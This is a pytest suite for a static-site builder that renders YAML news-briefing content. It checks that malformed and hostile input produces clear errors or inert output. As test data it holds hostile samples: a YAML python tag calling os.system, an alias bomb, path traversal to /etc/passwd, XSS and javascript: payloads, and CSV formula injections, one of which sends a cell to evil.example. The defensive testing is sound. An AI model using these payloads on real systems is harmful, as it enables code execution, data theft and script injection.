"""Broken and hostile input: a clear error with file and line, or a safe site; nothing lost."""

from __future__ import annotations

import csv
import io
import os
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from conftest import run_build, tree_digest
from support import edit, error_lines, minimal_project, rebuild_fails

BRIEFING = "content/flood/briefing.yaml"
CLAIMS = "content/flood/claims.yaml"
SOURCES = "content/sources.yaml"


def replace(old: str, new: str):
    return lambda text: text.replace(old, new, 1) if old in text else pytest.fail(f"{old!r} missing")


def whole(new: str):
    return lambda text: new


ESCAPE_HINT = "remove the escape sequence that writes it; write the text itself"
NUMBER_HINT = ("write digits only, with a minus sign for a fall or a loss, from -1000000000000000 up to "
               "1000000000000000, e.g. 660000 or -2.4")
FIGURE = "content/flood/claims.yaml:9: topics[0].claims[0].figures[0].value"

# name: (file, change, the exact error line expected)
BROKEN = {
    "tab indentation": (BRIEFING, replace("parties:\n  - id: alpha", "parties:\n\t- id: alpha"),
                        "content/flood/briefing.yaml:13: YAML syntax error: a tab character is used for indentation "
                        "(indent with spaces, not tabs)"),
    # A tab before a key under a mapping: the parser says the tab "violates indentation".
    "tab indenting a key": (BRIEFING, replace("    name: Beta", "\tname: Beta"),
                            "content/flood/briefing.yaml:16: YAML syntax error: a tab character is used for "
                            "indentation (indent with spaces, not tabs)"),
    "unclosed quote": (BRIEFING, replace("title: The flood", 'title: "The flood'),
                       "content/flood/briefing.yaml:1: YAML syntax error: while scanning a quoted scalar found unexpected "
                       "end of stream (the quoted value that starts here is missing its closing quote)"),
    "quote left open above": (BRIEFING, lambda text: text.replace("title: The flood", 'title: "The flood').replace(
                                  "publisher: unknown", 'publisher: "unknown"'),
                              "content/flood/briefing.yaml:1: YAML syntax error: while scanning a quoted scalar found unexpected end of stream (the quoted value that starts here is missing its closing quote)"),
    "bad indentation": (BRIEFING, replace("    name: Beta", "      name: Beta"),
                        "content/flood/briefing.yaml:16: YAML syntax error: mapping values are not allowed in this context "
                        "(check the indentation of this line against the lines above: the items of one list or mapping "
                        "line up; or quote a value that contains ': ')"),
    "unclosed flow list": (CLAIMS, whole("["),
                           "content/flood/claims.yaml:1: YAML syntax error: while parsing a flow node did not find expected "
                           "node content (fix the YAML syntax at that line)"),
    "empty file": (CLAIMS, whole(""), "content/flood/claims.yaml:1: file is empty (expected fields: topics, citations)"),
    "list where a mapping is expected": (
        CLAIMS, whole("- a\n- b\n"),
        "content/flood/claims.yaml:1: expected a mapping of fields, found a list (write `field: value` lines; fields: topics, citations)"),
    "wrong type": (BRIEFING, replace("  - date: 2026-03-03", "  - date: 20260303"),
                   "content/flood/briefing.yaml:9: updates[0].date: expected text, found the number 20260303 (put the value in quotes)"),
    "a single key where a list is expected": (
        CLAIMS, replace("cite: [alpha-rise]", "cite: alpha-rise"),
        "content/flood/claims.yaml:11: topics[0].claims[0].cite: expected a list, found 'alpha-rise' "
        "(write it as a list: [alpha-rise])"),
    "impossible date": (BRIEFING, replace("  - date: 2026-03-03", "  - date: 2026-02-30"),
                        "content/flood/briefing.yaml:9: updates[0].date: '2026-02-30' is not a real calendar date (write YYYY-MM-DD)"),
    "missing required field": (BRIEFING, replace("title: The flood\n", ""),
                               "content/flood/briefing.yaml:1: title: required field is missing (Headline of the briefing.)"),
    "unknown field": (BRIEFING, replace("title: The flood", "title: The flood\nsumary: x"),
                      "content/flood/briefing.yaml:2: sumary: unknown field in briefing file (did you mean `summary`?)"),
    "misspelt choice": (CLAIMS, replace("status: claim", "status: confirmed"),
                        "content/flood/claims.yaml:10: topics[0].claims[0].status: 'confirmed' is not one of the values this field takes (use one of: claim, acknowledged, denied, ruling, assessment, reported)"),
    "duplicate key": (BRIEFING, replace("status: live", "status: live\ntitle: Again"),
                      "content/flood/briefing.yaml:6: key 'title' appears twice (lines 1 and 6) "
                      "(keep one of them; YAML would silently drop the first)"),
    "python object tag": (BRIEFING, replace("title: The flood", "title: !!python/object/apply:os.system [touch pwned]"),
                          "content/flood/briefing.yaml:1: YAML tag 'tag:yaml.org,2002:python/object/apply:os.system' is not "
                          "allowed in content (remove the tag; content is plain text, numbers, lists and mappings)"),
    "non-standard tag": (BRIEFING, replace("title: The flood", "title: !custom The flood"),
                         "content/flood/briefing.yaml:1: YAML tag '!custom' is not allowed in content "
                         "(remove the tag; content is plain text, numbers, lists and mappings)"),
    "tagged value that cannot be that type": (
        SOURCES, replace("    publisher: unknown", "    publisher: !!int 3 words"),
        "content/sources.yaml:5: '3 words' is not a valid int (remove the '!!int' tag, or write a value of that type)"),
    "text the resolver takes for a number": (
        SOURCES, replace("    date: unknown", "    date: ._"),
        "content/sources.yaml:6: sources[0].date: '._' is not in the expected form (write it as YYYY-MM-DD, e.g. 2026-03-04 for 4 March 2026, or `unknown`)"),
    "alias bomb": (CLAIMS, whole("a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
                                 "c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: [*c, *c, *c, *c, *c, *c, *c, *c]\n"),
                   "content/flood/claims.yaml:2: alias '*a' is not allowed in content "
                   "(write the value out in full instead of using anchors)"),
    "deep nesting": (CLAIMS, whole("topics: " + "[" * 60 + "]" * 60 + "\n"),
                     "content/flood/claims.yaml:1: nesting is deeper than 50 levels (flatten the structure)"),
    "huge file": (CLAIMS, whole("topics: []\n" + "# padding\n" * 900_000),
                  "content/flood/claims.yaml: is 9,000,011 bytes, over the limit of 8,388,608 (a content file cannot be "
                  "split into more of its kind: remove what does not belong in it (a document's text belongs in "
                  "seeds/))"),
    "javascript: URL in a source": (
        SOURCES, replace("    publisher: unknown", "    publisher: unknown\n    url: javascript:alert(1)"),
        "content/sources.yaml:6: sources[0].url: 'javascript:alert(1)' is not an http:// or https:// address (write the whole address, starting with https:// or http://)"),
    "source path with ..": (SOURCES, replace("file: flood.txt", "file: ../content/flood/briefing.yaml"),
                            "content/sources.yaml:3: source 'flood': file '../content/flood/briefing.yaml' is outside seeds/ (name a file inside seeds/, without '..' or a leading '/')"),
    "absolute source path": (SOURCES, replace("file: flood.txt", "file: /etc/passwd"),
                             "content/sources.yaml:3: source 'flood': file '/etc/passwd' is outside seeds/ (name a file inside seeds/, without '..' or a leading '/')"),
    "unknown content file": ("content/extra.yaml", whole("a: 1\n"),
                             "content/extra.yaml: unknown content file 'extra.yaml' (content/ holds site.yaml, sources.yaml and one folder per briefing)"),
    # Escapes in double-quoted YAML write characters the file's own text may not hold.
    "escaped NUL in a value": (BRIEFING, replace("title: The flood", r'title: "The\0flood"'),
                               "content/flood/briefing.yaml:1: control character U+0000 in a quoted value is not allowed "
                               f"({ESCAPE_HINT})"),
    "escaped terminal escape": (SOURCES, replace("publisher: unknown", r'publisher: "\e[2J\e[Hcleared"'),
                                "content/sources.yaml:5: control character U+001B in a quoted value is not allowed (remove the escape sequence that writes it; write the text itself)"),
    "hex-escaped terminal escape in a key": (
        BRIEFING, replace("  monday:\n", '  "monday\\x1b":\n'),
        f"content/flood/briefing.yaml:18: control character U+001B in a quoted key is not allowed ({ESCAPE_HINT})"),
    "escaped direction override": (
        BRIEFING, replace("name: Alpha", r'name: "Alpha\u202e"'),
        "content/flood/briefing.yaml:14: control character U+202E (RIGHT-TO-LEFT OVERRIDE) in a quoted value is not allowed "
        f"({ESCAPE_HINT})"),
    "escaped isolate on the second line of a quoted value": (
        BRIEFING, replace("summary: |\n  The river rose on Monday[^monday] and again on Tuesday[^tuesday].",
                          'summary: "The river rose on Monday[^monday]\n  and again\\u2066 on Tuesday[^tuesday]."'),
        "content/flood/briefing.yaml:3: control character U+2066 (LEFT-TO-RIGHT ISOLATE) in a quoted value is not allowed "
        f"({ESCAPE_HINT})"),
    "escaped bell and next line": (BRIEFING, replace("name: Beta", r'name: "Beta\a\N"'),
                                   f"content/flood/briefing.yaml:16: control character U+0007 in a quoted value is not allowed "
                                   f"({ESCAPE_HINT})"),
    "lone surrogate": (BRIEFING, replace("title: The flood", r'title: "The \ud800 flood"'),
                       r"content/flood/briefing.yaml:1: YAML syntax error: escape sequence '\ud800' does not write a character "
                       r"(\uD800 to \uDFFF are halves of surrogate pairs and nothing is above \U0010FFFF; "
                       r"write the character itself)"),
    "unknown escape": (BRIEFING, replace("title: The flood", r'title: "C:\Documents"'),
                       r"content/flood/briefing.yaml:1: YAML syntax error: unknown escape sequence '\D' in a double-quoted "
                       r"value (write a backslash as \\, or put the value in single quotes)"),
    "quote marks in a folded block above bad indentation": (
        CLAIMS, lambda text: replace("        says: The river rose by 3 metres.\n",
                                     '        says: >-\n          The river rose by "3 metres", Alpha said, calling it "the\n'
                                     '          worst flood" in memory.\n')(text).replace(
                                         "        status: claim\n        cite: [alpha-rise]",
                                         "        status: claim\n       cite: [alpha-rise]"),
        "content/flood/claims.yaml:13: YAML syntax error: while parsing a block collection did not find expected '-' indicator (check the indentation of this line against the lines above: the items of one list or mapping line up)"),
    # What reaches the terminal is escaped: a file name cannot forge a line or clear the screen.
    "file name with a newline and a terminal escape": (
        "content/a\x1b[2Jb\nerror: c.yaml", whole("a: 1\n"),
        "content/a\\x1b[2Jb\\nerror: c.yaml: unknown content file 'a\\x1b[2Jb\\nerror: c.yaml' (content/ holds site.yaml, sources.yaml and one folder per briefing)"),
    "tab in a quoted key": (BRIEFING, replace("title: The flood", 'title: The flood\n"sum\\tmary": x'),
                            r"content/flood/briefing.yaml:2: sum\tmary: unknown field in briefing file (did you mean `summary`?)"),
    # Patterns match the whole value: a trailing newline is not a harmless extra.
    "key with a trailing newline": (
        BRIEFING, replace("  monday:\n", '  "monday\\n":\n'),
        r"content/flood/briefing.yaml:18: citations.monday\n: key must be lowercase letters, digits and hyphens "
        "(rename it, e.g. `asif-all-out-war`)"),
    "id with a trailing newline": (
        BRIEFING, replace("  - id: alpha", '  - id: "alpha\\n"'),
        r"content/flood/briefing.yaml:13: parties[0].id: 'alpha\n' is not a key (lowercase letters, digits and hyphens) "
        "(use lowercase letters, digits and hyphens, e.g. `asif-all-out-war`)"),
    "date with a trailing newline": (
        BRIEFING, replace("  - date: 2026-03-03", '  - date: "2026-03-03\\n"'),
        "content/flood/briefing.yaml:9: updates[0].date: '2026-03-03\\n' is not a date written YYYY-MM-DD (write it as YYYY-MM-DD, e.g. 2026-03-04 for 4 March 2026)"),
    "source date with a trailing newline": (
        SOURCES, replace("    date: unknown", '    date: "unknown\\n"'),
        "content/sources.yaml:6: sources[0].date: 'unknown\\n' is not in the expected form (write it as YYYY-MM-DD, e.g. 2026-03-04 for 4 March 2026, or `unknown`)"),
    "URL with a trailing newline": (
        SOURCES, replace("    publisher: unknown", '    publisher: unknown\n    url: "https://example.org/\\n"'),
        "content/sources.yaml:6: sources[0].url: 'https://example.org/\\n' is not an http:// or https:// address (write the whole address, starting with https:// or http://)"),
}

# Every number is finite, from -10**15 to 10**15: what a chart can draw and JSON can hold.
for _name, _written, _shown in [("NaN", ".nan", "nan"), ("infinity", ".inf", "inf"), ("minus infinity", "-.Inf", "-inf"),
                                ("an integer just under the limit", "-1000000000000001", "-1000000000000001"), ("a float over the limit", "1.0e+16", "1e+16"),
                                ("an integer just over the limit", "1000000000000001", "1000000000000001"),
                                ("a 400-digit integer", "9" * 400, "9" * 39 + "…")]:
    BROKEN[f"number: {_name}"] = (CLAIMS, replace("value: 3}", f"value: {_written}}}"),
                                  f"{FIGURE}: value '{_shown}' is not a finite number between "
                                  f"-1,000,000,000,000,000 and 1,000,000,000,000,000 ({NUMBER_HINT})")
BROKEN["number: a boolean"] = (CLAIMS, replace("value: 3}", "value: true}"),
                               f"{FIGURE}: expected a number, found true/false (true) (write digits only, e.g. 660000 or "
                               "38.7 (a decimal point in any language); put words like 'more than' in `bound`)")


@pytest.mark.parametrize("case", sorted(BROKEN))
def test_broken_input_gives_one_clear_error(case: str, built_minimal: Path):
    root = built_minimal
    good = tree_digest(root / "site")
    file, change, expected = BROKEN[case]
    path = root / file
    path.write_text(change(path.read_text() if path.exists() else ""), encoding="utf-8")
    before = path.read_bytes()
    result = rebuild_fails(root, good)
    assert error_lines(result) == [expected]
    assert path.read_bytes() == before, "the editor's file must never be rewritten"
    assert not (root / "pwned").exists()


BAD_BYTES = {
    "non-UTF-8 byte": (b"title: The flood", b"title: The fl\xe9od",
                       "content/flood/briefing.yaml:1: byte 0xe9 is not valid UTF-8 (save the file as UTF-8)"),
    "NUL character": (b"title: The flood", b"title: The\x00flood",
                      "content/flood/briefing.yaml:1: invisible control character U+0000 is not allowed "
                      "(delete it; it is invisible in most editors)"),
    "direction override": (b"title: The flood", "title: The \u202eflood".encode(),
                           "content/flood/briefing.yaml:1: invisible control character U+202E (RIGHT-TO-LEFT OVERRIDE) is not "
                           "allowed (delete it; it is invisible in most editors)"),
}


def test_extreme_nesting_fails_fast_and_cleanly(built_minimal: Path):
    root = built_minimal
    good = tree_digest(root / "site")
    (root / CLAIMS).write_text("topics: " + "[" * 200_000 + "]" * 200_000 + "\n")
    [line] = error_lines(rebuild_fails(root, good))
    # libyaml may stop it first with its own limit; either way it is one clean line for claims.yaml:1.
    assert line.startswith("content/flood/claims.yaml:1: ")
    assert "nesting" in line


@pytest.mark.parametrize("case", sorted(BAD_BYTES))
def test_bad_characters_are_reported_with_their_line(case: str, built_minimal: Path):
    root = built_minimal
    good = tree_digest(root / "site")
    old, new, expected = BAD_BYTES[case]
    path = root / BRIEFING
    path.write_bytes(path.read_bytes().replace(old, new))
    assert error_lines(rebuild_fails(root, good)) == [expected]


def test_bom_and_crlf_line_endings_build_the_same_site(tmp_path: Path):
    plain = minimal_project(tmp_path / "plain")
    windows = minimal_project(tmp_path / "windows")
    for path in (windows / "content").glob("*.yaml"):
        path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes().replace(b"\n", b"\r\n"))
    assert run_build(plain).code == 0
    result = run_build(windows)
    assert result.code == 0, result.err
    assert tree_digest(plain / "site") == tree_digest(windows / "site")


def test_symlink_leaving_seeds_is_refused(built_minimal: Path, tmp_path: Path):
    root = built_minimal
    good = tree_digest(root / "site")
    outside = tmp_path / "secret.txt"
    outside.write_text("the river rose by 3 metres on Monday")
    os.symlink(outside, root / "seeds" / "link.txt")
    edit(root / SOURCES, "file: flood.txt", "file: link.txt")
    assert error_lines(rebuild_fails(root, good))[0] == (
        f"content/sources.yaml:3: source 'flood': seeds/link.txt is a link leading out of seeds/, to {outside} "
        "(replace the link with a copy of the file)")


def test_output_folder_not_made_by_us_is_never_cleared(tmp_path: Path):
    root = minimal_project(tmp_path / "project")
    home = tmp_path / "home"
    home.mkdir()
    (home / "thesis.txt").write_text("years of work")
    result = run_build(root, "--out", str(home))
    assert result.code == 1
    assert "Traceback" not in result.err
    assert f"error: {home}: folder was not made by this tool" in result.err
    assert (home / "thesis.txt").read_text() == "years of work"
    assert sorted(p.name for p in home.iterdir()) == ["thesis.txt"]


# No digits or quoted words: the attribution checks would (rightly) refuse those in prose.
INJECTIONS = [
    '<script>alert(x)</script>',
    '<img src=x onerror=alert(x)>',
    '[click](javascript:alert(x))',
    '[click](JaVaScRiPt:alert(x))',
    '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '<a href=javascript:alert(x) onclick=alert(x)>x</a>',
    '{{ config.items() }} {% raw %}',
    '![tracker](https://tracker.example/pixel.png)',
]


class ExecutableContent(HTMLParser):
    """Collects what in a page could run or load something: scripts, handlers, script URLs, embeds."""

    OWN_SCRIPT = re.compile(r"^(?:\./)?(\.\./)*static/[a-z_-]+\.js$")  # "./static/" on a page at the site's top

    def __init__(self, name: str):
        super().__init__(convert_charrefs=True)
        self.name = name
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        values = dict(attrs)
        if tag == "script" and values.get("type") != "application/ld+json" \
                and not self.OWN_SCRIPT.match(values.get("src") or ""):
            self.found.append(f"{self.name}: <script {values}>")
        if tag in ("img", "iframe", "object", "embed", "frame"):
            self.found.append(f"{self.name}: <{tag}>")
        for attr, value in attrs:
            if attr.startswith("on"):
                self.found.append(f"{self.name}: {attr}= on <{tag}>")
            if attr in ("href", "src", "action", "formaction", "xlink:href") and value and \
                    re.match(r"\s*(javascript|data|vbscript):", value, re.I):
                self.found.append(f"{self.name}: {attr}={value}")


def scan_for_executable_content(site: Path) -> list[str]:
    """Return every script, event handler or script URL in the site that is not the project's own."""
    found = []
    for page in sorted(site.rglob("*.html")):
        scanner = ExecutableContent(page.name)
        scanner.feed(page.read_text())
        found += scanner.found
    return found


@pytest.mark.parametrize("payload", INJECTIONS)
def test_markup_in_content_is_text_never_code(payload: str, tmp_path: Path):
    root = minimal_project(tmp_path / "project")
    quoted = payload.replace("\\", "\\\\").replace('"', '\\"')
    edit(root / BRIEFING, "title: The flood", f'title: "{quoted}"')
    edit(root / BRIEFING, "and again on Tuesday[^tuesday].", f"and again on Tuesday[^tuesday]. {payload}")
    edit(root / CLAIMS, "claimant: Alpha", f'claimant: "{quoted}"')
    result = run_build(root)
    if payload.startswith("[") and "](" in payload:  # a link of another scheme: refused since round 50, none written
        assert result.code == 1 and "would show as its markdown, not as a link" in result.err, result.err
        assert not (root / "site").exists()
        return
    assert result.code == 0, result.err
    assert scan_for_executable_content(root / "site") == []
    index = (root / "site" / "flood" / "index.html").read_text()
    if "{{" in payload:
        assert "{{ config.items() }}" in index


def test_links_leaving_the_site_get_noopener(tmp_path: Path):
    root = minimal_project(tmp_path / "project")
    edit(root / BRIEFING, "and again on Tuesday[^tuesday].", "and again on Tuesday[^tuesday]. [More](https://example.org/x).")
    assert run_build(root).code == 0
    index = (root / "site" / "flood" / "index.html").read_text()
    assert '<a href="https://example.org/x" rel="noopener noreferrer">More</a>' in index


def test_links_may_be_relative_http_https_or_mailto_and_nothing_else(tmp_path: Path):
    root = minimal_project(tmp_path / "project")
    briefing = (root / BRIEFING).read_text()
    edit(root / BRIEFING, "and again on Tuesday[^tuesday].", "and again on Tuesday[^tuesday]. [Write](mailto:desk@example.org), "
         "[the report](../sources/flood.html), [files](ftp://files.example/a) and [notes](file:///etc/passwd).")
    # Other schemes were shown as their markdown, published silently; refused since round 50 (tests/test_attack_50.py)
    result = run_build(root)
    assert result.code == 1 and not (root / "site").exists()
    assert "a link to 'ftp://files.example/a' would show" in result.err and "a link to 'file:///etc/passwd'" in result.err
    (root / BRIEFING).write_text(briefing)
    edit(root / BRIEFING, "and again on Tuesday[^tuesday].", "and again on Tuesday[^tuesday]. [Write](mailto:desk@example.org), "
         "[the report](../sources/flood.html).")
    assert run_build(root).code == 0
    index = (root / "site" / "flood" / "index.html").read_text()
    assert '<a href="mailto:desk@example.org" rel="noopener noreferrer">Write</a>' in index
    assert '<a href="../sources/flood.html">the report</a>' in index


def test_the_real_site_has_no_executable_content_but_ours(real_site: Path):
    assert scan_for_executable_content(real_site) == []


def test_dangerous_base_url_flag_is_refused(tmp_path: Path):
    root = minimal_project(tmp_path / "project")
    result = run_build(root, "--base-url", "javascript:alert(1)//")
    assert (result.code, result.err) == (1, "error: argument --base-url: 'javascript:alert(1)//' is not an http:// or "
                                            "https:// address (see python build.py --help)\n")
    assert not (root / "site").exists()


def test_csv_cells_that_start_like_a_formula_are_made_inert(tmp_path: Path):
    # A spreadsheet runs =, +, -, @ (and tab, CR) at a cell's start: an editor's text must stay text.
    root = minimal_project(tmp_path / "project")
    claims = root / "content" / "flood" / "claims.yaml"
    edit(claims, "claimant: Alpha", "claimant: '=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")'")
    edit(claims, "claimant: Beta", "claimant: '-cmd|'' /C calc''!A0'")
    edit(claims, "{measure: River rise, value: 3}", "{measure: '@SUM(A1:A3)', value: 3}")
    result = run_build(root)
    assert result.code == 0, result.err
    rows = list(csv.reader(io.StringIO((root / "site" / "flood" / "data" / "claims.csv").read_text(encoding="utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in cells
    assert "'-cmd|' /C calc'!A0" in cells and "'@SUM(A1:A3)" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # "+" and a tab start a formula too (a carriage return cannot reach a cell: content refuses it).
    edit(claims, "claimant: '=HYPERLINK", "claimant: '+HYPERLINK")
    edit(claims, "claimant: '-cmd|'' /C calc''!A0'", 'claimant: "\\t-cmd"')
    assert run_build(root).code == 0
    cells = [cell for row in csv.reader(io.StringIO((root / "site" / "flood" / "data" / "claims.csv").read_text(
        encoding="utf-8-sig"), newline="")) for cell in row]
    # (the "-cmd" after the tab has its own apostrophe: an import splitting at tabs reads it as a cell, test_attack_32)
    assert "'+HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in cells and "'\t'-cmd" in cells
